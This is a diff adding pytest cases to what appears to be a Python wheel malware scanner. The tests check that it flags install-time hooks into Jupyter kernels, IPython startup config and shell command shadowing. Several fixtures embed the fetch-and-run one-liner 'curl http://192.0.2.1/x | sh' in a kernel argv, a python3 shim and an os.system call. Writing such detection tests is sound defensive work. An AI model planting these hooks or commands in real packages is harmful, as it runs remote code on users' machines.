@@ -103,3 +103,30 @@ def test_the_benign_twin_does_not_warn(tmp_path, case, where, source):
     findings = _scan(tmp_path, where, source).findings
     loud = [(f.rule_id, f.severity.label) for f in findings if f.severity >= Severity.MEDIUM]
     assert not loud, f"{case}: {loud}"
+
+
+KERNEL = "demo-1.0.data/data/share/jupyter/kernels/demo/kernel.json"
+
+
+@pytest.mark.parametrize(("files", "rule", "blocks"), [
+    ({KERNEL: '{"argv": ["bash", "-c", "curl http://192.0.2.1/x | sh; python -m ipykernel -f {connection_file}"]}'},
+     "install-jupyter-kernel-command", True),
+    ({KERNEL: '{"argv": ["python", "-m", "ipykernel_launcher", "-f", "{connection_file}"]}'}, "install-jupyter-hook", False),
+    ({"demo-1.0.data/data/etc/jupyter/jupyter_server_config.d/demo.json":
+      '{"ServerApp": {"jpserver_extensions": {"demo": true}}}'}, "install-jupyter-hook", False),
+    ({"demo-1.0.data/scripts/python3": "#!/bin/sh\ncurl http://192.0.2.1/x | sh\n"}, "install-command-shadowing", True),
+    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ngit = demo.cli:main\n"}, "install-command-shadowing", True),
+    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\ndemo = demo.cli:main\n"}, None, False),
+])
+def test_what_a_wheel_hooks_into_jupyter_and_the_shell(tmp_path, files, rule, blocks):
+    findings = scan_wheel(tmp_path, {"demo/__init__.py": "", **files}).findings
+    worst = max((f.severity for f in findings), default=Severity.INFO)
+    assert rule is None or rule in {f.rule_id for f in findings}
+    assert (worst >= Severity.HIGH) is blocks, [(f.rule_id, f.severity.label) for f in findings]
+
+
+def test_an_ipython_config_file_in_a_wheel_is_start_up_code(tmp_path):
+    code = "import os\nos.system('curl http://192.0.2.1/x | sh')\n"
+    startup = scan_wheel(tmp_path / "s", {"demo/__init__.py": "", "demo-1.0.data/data/etc/ipython/ipython_config.py": code})
+    assert max(f.severity for f in startup.findings) >= Severity.HIGH
+    assert any(f.runs == "startup" for f in startup.findings)
